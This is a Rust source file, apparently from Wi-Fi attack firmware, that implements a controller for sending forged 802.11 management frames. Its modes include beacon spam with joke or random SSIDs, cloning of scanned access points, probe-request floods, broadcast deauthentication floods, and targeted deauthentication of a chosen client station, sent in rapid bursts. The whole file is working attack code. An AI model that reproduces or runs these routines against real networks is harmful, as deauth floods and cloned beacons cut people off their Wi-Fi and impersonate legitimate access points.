use std::collections::HashMap;
use std::fmt;
use std::time::{Duration, Instant};

use derive_setters::Setters;
use libwifi::frame::components::MacAddress;
use rand::seq::SliceRandom;
use rand::thread_rng;
use strum_macros::{EnumIter, EnumString};

use crate::environment::RadioEnvironment;
use crate::radio::{RadioDriver, RadioError, RadioMode, ScanRecord, TimerSlot};
use crate::status::{report, MessageType, SharedLog};
use crate::tx::{build_beacon, build_deauth, build_probe_request, AddressSource};
use crate::util::{random_channel, random_ssid, safe_channel, DEFAULT_CHANNEL};

const FUNNY_BEACONS: [&str; 12] = [
    "Abraham Linksys",
    "Benjamin FrankLAN",
    "Dora the Internet Explorer",
    "FBI Surveillance Van 4",
    "Get Off My LAN",
    "Loading...",
    "Martin Router King",
    "404 Wi-Fi Unavailable",
    "Test Wi-Fi Please Ignore",
    "This LAN is My LAN",
    "Titanic Syncing",
    "Winternet is Coming",
];

const RICK_ROLL_LYRICS: [&str; 8] = [
    "01 Never gonna give you up",
    "02 Never gonna let you down",
    "03 Never gonna run around",
    "04 and desert you",
    "05 Never gonna make you cry",
    "06 Never gonna say goodbye",
    "07 Never gonna tell a lie",
    "08 and hurt you",
];

const RANDOM_SSID_LEN: usize = 6;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Default, EnumIter, EnumString)]
#[strum(ascii_case_insensitive)]
pub enum AttackMode {
    #[default]
    #[strum(serialize = "beacon-list", serialize = "Beacon Spam List")]
    BeaconList,
    #[strum(serialize = "beacon-random", serialize = "Beacon Spam Random")]
    BeaconRandom,
    #[strum(serialize = "funny-beacon", serialize = "Funny SSID Beacon")]
    FunnyBeacon,
    #[strum(serialize = "rick-roll", serialize = "Rick Roll Beacon")]
    RickRollBeacon,
    #[strum(serialize = "probe-flood", serialize = "Probe Req Flood")]
    ProbeFlood,
    #[strum(serialize = "deauth-flood", serialize = "Deauth Flood")]
    DeauthFlood,
    #[strum(serialize = "ap-clone", serialize = "AP Clone Spam")]
    ApCloneSpam,
    #[strum(serialize = "deauth-targeted", serialize = "Deauth Targeted")]
    DeauthTargeted,
    #[strum(serialize = "bad-msg", serialize = "Bad Msg")]
    BadMsgBroadcast,
    #[strum(serialize = "bad-msg-targeted", serialize = "Bad Msg Targeted")]
    BadMsgTargeted,
    #[strum(serialize = "assoc-sleep", serialize = "Assoc Sleep")]
    AssocSleepBroadcast,
    #[strum(serialize = "assoc-sleep-targeted", serialize = "Assoc Sleep Targeted")]
    AssocSleepTargeted,
}

impl AttackMode {
    pub const ALL: [AttackMode; 12] = [
        AttackMode::BeaconList,
        AttackMode::BeaconRandom,
        AttackMode::FunnyBeacon,
        AttackMode::RickRollBeacon,
        AttackMode::ProbeFlood,
        AttackMode::DeauthFlood,
        AttackMode::ApCloneSpam,
        AttackMode::DeauthTargeted,
        AttackMode::BadMsgBroadcast,
        AttackMode::BadMsgTargeted,
        AttackMode::AssocSleepBroadcast,
        AttackMode::AssocSleepTargeted,
    ];

    pub fn label(&self) -> &'static str {
        match self {
            AttackMode::BeaconList => "Beacon Spam List",
            AttackMode::BeaconRandom => "Beacon Spam Random",
            AttackMode::FunnyBeacon => "Funny SSID Beacon",
            AttackMode::RickRollBeacon => "Rick Roll Beacon",
            AttackMode::ProbeFlood => "Probe Req Flood",
            AttackMode::DeauthFlood => "Deauth Flood",
            AttackMode::ApCloneSpam => "AP Clone Spam",
            AttackMode::DeauthTargeted => "Deauth Targeted",
            AttackMode::BadMsgBroadcast => "Bad Msg",
            AttackMode::BadMsgTargeted => "Bad Msg Targeted",
            AttackMode::AssocSleepBroadcast => "Assoc Sleep",
            AttackMode::AssocSleepTargeted => "Assoc Sleep Targeted",
        }
    }

    /// Catalogue lookup. Out-of-range indices map to the first mode.
    pub fn from_index(index: usize) -> AttackMode {
        AttackMode::ALL
            .get(index)
            .copied()
            .unwrap_or(AttackMode::BeaconList)
    }

    pub fn index(&self) -> usize {
        AttackMode::ALL
            .iter()
            .position(|mode| mode == self)
            .unwrap_or(0)
    }

    pub fn is_implemented(&self) -> bool {
        !matches!(
            self,
            AttackMode::BadMsgBroadcast | AttackMode::AssocSleepBroadcast
        )
    }

    /// Everything but the standalone beacon modes works from a scan of nearby networks.
    pub fn needs_access_points(&self) -> bool {
        !matches!(
            self,
            AttackMode::BeaconRandom | AttackMode::FunnyBeacon | AttackMode::RickRollBeacon
        )
    }

    pub fn is_station_targeted(&self) -> bool {
        matches!(
            self,
            AttackMode::DeauthTargeted
                | AttackMode::BadMsgTargeted
                | AttackMode::AssocSleepTargeted
        )
    }
}

impl fmt::Display for AttackMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

#[derive(Clone, Debug, Setters)]
pub struct AttackConfig {
    pub tick_interval: Duration,
    /// A scan older than this is refreshed on start.
    pub scan_stale_after: Duration,
    pub report_interval: Duration,
    pub beacon_burst: usize,
    pub probe_burst: usize,
    pub deauth_burst: usize,
    /// Reconnect the client connection on stop instead of restoring the previous mode.
    pub restore_client: bool,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig {
            tick_interval: Duration::from_millis(5),
            scan_stale_after: Duration::from_millis(15000),
            report_interval: Duration::from_millis(1000),
            beacon_burst: 6,
            probe_burst: 20,
            deauth_burst: 25,
            restore_client: false,
        }
    }
}

/// A single access point to favour, optionally narrowed to one of its stations.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct PreferredTarget {
    pub bssid: MacAddress,
    pub channel: u8,
    pub station: Option<MacAddress>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TickOutcome {
    Continue,
    /// The tick ended the session.
    Stopped,
    /// No session was running.
    Idle,
}

pub struct AttackSession {
    config: AttackConfig,
    log: SharedLog,
    active: bool,
    current_mode: AttackMode,
    environment: RadioEnvironment,
    access_points: Vec<ScanRecord>,
    ap_lookup: HashMap<MacAddress, usize>,
    last_scan: Option<Instant>,
    last_report: Instant,
    frames_sent: u64,
    frames_total: u64,
    tx_failures: u64,
    rolling_ap_index: usize,
    funny_index: usize,
    lyric_index: usize,
    preferred: Option<PreferredTarget>,
    current_channel: Option<u8>,
    missing_target_reported: bool,
}

impl AttackSession {
    pub fn new(config: AttackConfig, log: SharedLog) -> Self {
        AttackSession {
            config,
            log,
            active: false,
            current_mode: AttackMode::default(),
            environment: RadioEnvironment::new(),
            access_points: Vec::new(),
            ap_lookup: HashMap::new(),
            last_scan: None,
            last_report: Instant::now(),
            frames_sent: 0,
            frames_total: 0,
            tx_failures: 0,
            rolling_ap_index: 0,
            funny_index: 0,
            lyric_index: 0,
            preferred: None,
            current_channel: None,
            missing_target_reported: false,
        }
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    pub fn is_running(&self) -> bool {
        self.active
    }

    pub fn current_attack(&self) -> AttackMode {
        self.current_mode
    }

    /// Access points of the current scan, in round-robin order.
    pub fn access_points(&self) -> &[ScanRecord] {
        &self.access_points
    }

    pub fn preferred(&self) -> Option<PreferredTarget> {
        self.preferred
    }

    pub fn frames_sent_total(&self) -> u64 {
        self.frames_total
    }

    pub fn transmit_failures(&self) -> u64 {
        self.tx_failures
    }

    fn info(&self, content: String) {
        report(&self.log, MessageType::Info, content);
    }

    fn warn(&self, content: String) {
        report(&self.log, MessageType::Warning, content);
    }

    pub fn start<R: RadioDriver + ?Sized>(&mut self, radio: &mut R, mode: AttackMode) -> bool {
        self.start_at(radio, mode, Instant::now())
    }

    /// Start `mode`, stopping any running attack first. Returns whether the attack is running.
    ///
    /// A failed start always hands the radio back before returning.
    pub fn start_at<R: RadioDriver + ?Sized>(
        &mut self,
        radio: &mut R,
        mode: AttackMode,
        now: Instant,
    ) -> bool {
        if self.active {
            let preferred = self.preferred;
            self.stop(radio);
            self.preferred = preferred;
        }

        self.environment.capture(radio, self.config.restore_client);

        if !self.prepare_environment(radio, mode, now) {
            self.warn(format!("WiFi attack \"{mode}\" unavailable (env init failed)"));
            self.restore_environment(radio);
            return false;
        }

        if !mode.is_implemented() {
            self.warn(format!("WiFi attack \"{mode}\" not implemented yet"));
            self.restore_environment(radio);
            return false;
        }

        if let Err(e) = self.prepare_transceiver(radio) {
            report(
                &self.log,
                MessageType::Error,
                format!("WiFi attack \"{mode}\" failed to init radio: {e}"),
            );
            self.restore_environment(radio);
            return false;
        }

        self.current_mode = mode;
        self.frames_sent = 0;
        self.frames_total = 0;
        self.tx_failures = 0;
        self.rolling_ap_index = 0;
        self.funny_index = 0;
        self.lyric_index = 0;
        self.missing_target_reported = false;
        self.last_report = now;

        if let Err(e) = radio.start_periodic_timer(TimerSlot::AttackTick, self.config.tick_interval) {
            report(
                &self.log,
                MessageType::Error,
                format!("WiFi attack \"{mode}\" failed to arm tick: {e}"),
            );
            self.restore_environment(radio);
            return false;
        }

        self.active = true;
        self.info(format!("WiFi attack started: {mode}"));
        true
    }

    /// Stop the running attack and hand the radio back. Safe to call at any time; a second
    /// call does nothing.
    pub fn stop<R: RadioDriver + ?Sized>(&mut self, radio: &mut R) {
        if !self.active && !self.environment.is_captured() {
            return;
        }

        if self.active {
            if let Err(e) = radio.stop_periodic_timer(TimerSlot::AttackTick) {
                self.warn(format!("WiFi attack tick stop failed: {e}"));
            }
        }
        self.active = false;
        self.access_points.clear();
        self.ap_lookup.clear();
        self.last_scan = None;
        self.current_channel = None;
        self.restore_environment(radio);
        self.preferred = None;
        self.info("WiFi attack controller idle".to_string());
    }

    /// Stop when `mode` is already running, otherwise start it. Returns whether an attack is
    /// running afterwards.
    pub fn toggle<R: RadioDriver + ?Sized>(&mut self, radio: &mut R, mode: AttackMode) -> bool {
        if self.active && self.current_mode == mode {
            self.stop(radio);
            return false;
        }
        self.start(radio, mode)
    }

    pub fn set_preferred_target(&mut self, bssid: MacAddress, channel: u8) {
        self.record_preferred(bssid, channel);
        self.info(format!("WiFi attack preferred AP set (ch{})", safe_channel(channel)));
        self.prioritize_preferred();
    }

    pub fn set_preferred_station(&mut self, bssid: MacAddress, station: MacAddress, channel: u8) {
        self.record_preferred(bssid, channel);
        if let Some(preferred) = self.preferred.as_mut() {
            preferred.station = Some(station);
        }
        self.missing_target_reported = false;
        self.info(format!("WiFi attack station target set (ch{})", safe_channel(channel)));
        self.prioritize_preferred();
    }

    /// A station survives only while its access point stays the preferred one.
    fn record_preferred(&mut self, bssid: MacAddress, channel: u8) {
        let station = self
            .preferred
            .filter(|preferred| preferred.bssid == bssid)
            .and_then(|preferred| preferred.station);
        self.preferred = Some(PreferredTarget {
            bssid,
            channel: safe_channel(channel),
            station,
        });
    }

    /// Move the preferred access point to the head of the snapshot.
    fn prioritize_preferred(&mut self) {
        let Some(preferred) = self.preferred else {
            return;
        };
        if self.access_points.is_empty() {
            return;
        }

        match self.ap_lookup.get(&preferred.bssid).copied() {
            Some(index) if index < self.access_points.len() => {
                if index != 0 {
                    let displaced = self.access_points[0].bssid;
                    self.access_points.swap(0, index);
                    self.ap_lookup.insert(preferred.bssid, 0);
                    self.ap_lookup.insert(displaced, index);
                }
                self.rolling_ap_index = 0;
                self.info(format!(
                    "WiFi attack prioritizing selected target (ch{})",
                    self.access_points[0].channel
                ));
            }
            _ => self.info("Preferred WiFi target not found in scan results".to_string()),
        }
    }

    fn prepare_environment<R: RadioDriver + ?Sized>(
        &mut self,
        radio: &mut R,
        mode: AttackMode,
        now: Instant,
    ) -> bool {
        if !mode.is_implemented() || !mode.needs_access_points() {
            return true;
        }
        let stale = self
            .last_scan
            .map_or(true, |at| now.saturating_duration_since(at) > self.config.scan_stale_after);
        if self.access_points.is_empty() || stale {
            return self.refresh_access_points(radio, now);
        }
        true
    }

    fn refresh_access_points<R: RadioDriver + ?Sized>(&mut self, radio: &mut R, now: Instant) -> bool {
        self.access_points.clear();
        self.ap_lookup.clear();
        self.rolling_ap_index = 0;

        let scanned = scan_networks(radio);
        self.last_scan = Some(now);

        let records = match scanned {
            Ok(records) => records,
            Err(e) => {
                self.warn(format!("WiFi attack: scan failed: {e}"));
                return false;
            }
        };

        for mut record in records {
            if self.ap_lookup.contains_key(&record.bssid) {
                continue;
            }
            record.channel = safe_channel(record.channel);
            self.ap_lookup.insert(record.bssid, self.access_points.len());
            self.access_points.push(record);
        }

        if self.access_points.is_empty() {
            self.warn("WiFi attack: scan returned zero access points".to_string());
            return false;
        }
        self.info(format!(
            "WiFi attack: scan found {} access points",
            self.access_points.len()
        ));
        self.prioritize_preferred();
        true
    }

    fn prepare_transceiver<R: RadioDriver + ?Sized>(&mut self, radio: &mut R) -> Result<(), RadioError> {
        radio.set_mode(RadioMode::AccessPoint)?;
        radio.set_promiscuous_capture(None)?;
        radio.set_channel(DEFAULT_CHANNEL)?;
        self.current_channel = Some(DEFAULT_CHANNEL);
        Ok(())
    }

    fn restore_environment<R: RadioDriver + ?Sized>(&mut self, radio: &mut R) {
        if let Err(e) = self.environment.restore(radio) {
            report(
                &self.log,
                MessageType::Error,
                format!("WiFi attack failed to restore radio: {e}"),
            );
        }
    }

    pub fn run_once<R: RadioDriver + ?Sized>(&mut self, radio: &mut R) -> TickOutcome {
        self.run_once_at(radio, Instant::now())
    }

    /// One tick of the running attack. Never fails; problems end up in the log.
    pub fn run_once_at<R: RadioDriver + ?Sized>(&mut self, radio: &mut R, now: Instant) -> TickOutcome {
        if !self.active {
            return TickOutcome::Idle;
        }

        let outcome = match self.current_mode {
            AttackMode::BeaconList => self.beacon_round_robin(radio, false),
            AttackMode::ApCloneSpam => self.beacon_round_robin(radio, true),
            AttackMode::BeaconRandom => self.beacon_random(radio),
            AttackMode::FunnyBeacon => {
                let text = FUNNY_BEACONS[self.funny_index % FUNNY_BEACONS.len()];
                self.funny_index = (self.funny_index + 1) % FUNNY_BEACONS.len();
                self.beacon_text(radio, text)
            }
            AttackMode::RickRollBeacon => {
                let text = RICK_ROLL_LYRICS[self.lyric_index % RICK_ROLL_LYRICS.len()];
                self.lyric_index = (self.lyric_index + 1) % RICK_ROLL_LYRICS.len();
                self.beacon_text(radio, text)
            }
            AttackMode::ProbeFlood => self.probe_flood(radio),
            AttackMode::DeauthFlood => self.deauth_flood(radio),
            AttackMode::DeauthTargeted
            | AttackMode::BadMsgTargeted
            | AttackMode::AssocSleepTargeted => self.deauth_targeted(radio),
            AttackMode::BadMsgBroadcast | AttackMode::AssocSleepBroadcast => {
                self.warn(format!(
                    "WiFi attack \"{}\" is not implemented yet",
                    self.current_mode
                ));
                TickOutcome::Stopped
            }
        };

        if outcome == TickOutcome::Stopped {
            self.stop(radio);
            return outcome;
        }

        self.update_rate_stats(now);
        outcome
    }

    fn update_rate_stats(&mut self, now: Instant) {
        if now.saturating_duration_since(self.last_report) >= self.config.report_interval {
            report(
                &self.log,
                MessageType::Status,
                format!("WiFi attack {}: {} frames/s", self.current_mode, self.frames_sent),
            );
            self.frames_sent = 0;
            self.last_report = now;
        }
    }

    /// Tune if needed, then transmit. Failures are logged and counted, never retried.
    fn emit<R: RadioDriver + ?Sized>(&mut self, radio: &mut R, frame: &[u8], channel: u8) {
        let channel = safe_channel(channel);
        if self.current_channel != Some(channel) {
            match radio.set_channel(channel) {
                Ok(()) => self.current_channel = Some(channel),
                Err(e) => self.warn(format!("WiFi attack channel change failed: {e}")),
            }
        }

        match radio.transmit_raw(frame) {
            Ok(()) => {
                self.frames_sent += 1;
                self.frames_total += 1;
            }
            Err(e) => {
                self.tx_failures += 1;
                self.warn(format!("WiFi attack transmit failed: {e}"));
            }
        }
    }

    fn next_access_point(&mut self) -> Option<ScanRecord> {
        if self.access_points.is_empty() {
            return None;
        }
        let index = self.rolling_ap_index % self.access_points.len();
        self.rolling_ap_index = (index + 1) % self.access_points.len();
        self.access_points.get(index).cloned()
    }

    fn beacon_round_robin<R: RadioDriver + ?Sized>(&mut self, radio: &mut R, keep_address: bool) -> TickOutcome {
        for _ in 0..self.config.beacon_burst {
            let Some(ap) = self.next_access_point() else {
                break;
            };
            let (transmitter, bssid) = if keep_address {
                (AddressSource::Explicit(ap.bssid), AddressSource::Explicit(ap.bssid))
            } else {
                (AddressSource::Randomized, AddressSource::Randomized)
            };
            let frame = build_beacon(transmitter, bssid, ap.ssid.as_bytes(), ap.channel);
            self.emit(radio, frame.as_bytes(), ap.channel);
        }
        TickOutcome::Continue
    }

    fn beacon_random<R: RadioDriver + ?Sized>(&mut self, radio: &mut R) -> TickOutcome {
        for _ in 0..self.config.beacon_burst {
            let ssid = random_ssid(RANDOM_SSID_LEN);
            let channel = random_channel();
            let frame = build_beacon(
                AddressSource::Randomized,
                AddressSource::Randomized,
                ssid.as_bytes(),
                channel,
            );
            self.emit(radio, frame.as_bytes(), channel);
        }
        TickOutcome::Continue
    }

    fn beacon_text<R: RadioDriver + ?Sized>(&mut self, radio: &mut R, text: &str) -> TickOutcome {
        let channel = random_channel();
        let frame = build_beacon(
            AddressSource::Randomized,
            AddressSource::Randomized,
            text.as_bytes(),
            channel,
        );
        self.emit(radio, frame.as_bytes(), channel);
        TickOutcome::Continue
    }

    fn probe_flood<R: RadioDriver + ?Sized>(&mut self, radio: &mut R) -> TickOutcome {
        for _ in 0..self.config.probe_burst {
            let Some(ap) = self.next_access_point() else {
                break;
            };
            let frame = build_probe_request(AddressSource::Randomized, ap.ssid.as_bytes());
            self.emit(radio, frame.as_bytes(), ap.channel);
        }
        TickOutcome::Continue
    }

    fn deauth_flood<R: RadioDriver + ?Sized>(&mut self, radio: &mut R) -> TickOutcome {
        let mut rng = thread_rng();
        for _ in 0..self.config.deauth_burst {
            let Some(ap) = self.access_points.choose(&mut rng).cloned() else {
                break;
            };
            let frame = build_deauth(AddressSource::Randomized, &ap.bssid);
            self.emit(radio, frame.as_bytes(), ap.channel);
        }
        TickOutcome::Continue
    }

    fn deauth_targeted<R: RadioDriver + ?Sized>(&mut self, radio: &mut R) -> TickOutcome {
        let target = self
            .preferred
            .and_then(|preferred| preferred.station.map(|station| (preferred, station)));
        let Some((preferred, station)) = target else {
            // Rate-limited to one warning per session or per new station.
            if !self.missing_target_reported {
                self.missing_target_reported = true;
                self.warn(format!("No station selected for {}", self.current_mode));
            }
            return TickOutcome::Continue;
        };

        for _ in 0..self.config.deauth_burst {
            let frame = build_deauth(AddressSource::Explicit(station), &preferred.bssid);
            self.emit(radio, frame.as_bytes(), preferred.channel);
        }
        TickOutcome::Continue
    }
}

/// Scanning needs the radio in station mode with no association.
fn scan_networks<R: RadioDriver + ?Sized>(radio: &mut R) -> Result<Vec<ScanRecord>, RadioError> {
    radio.set_mode(RadioMode::Station)?;
    radio.disconnect()?;
    radio.scan_networks()
}
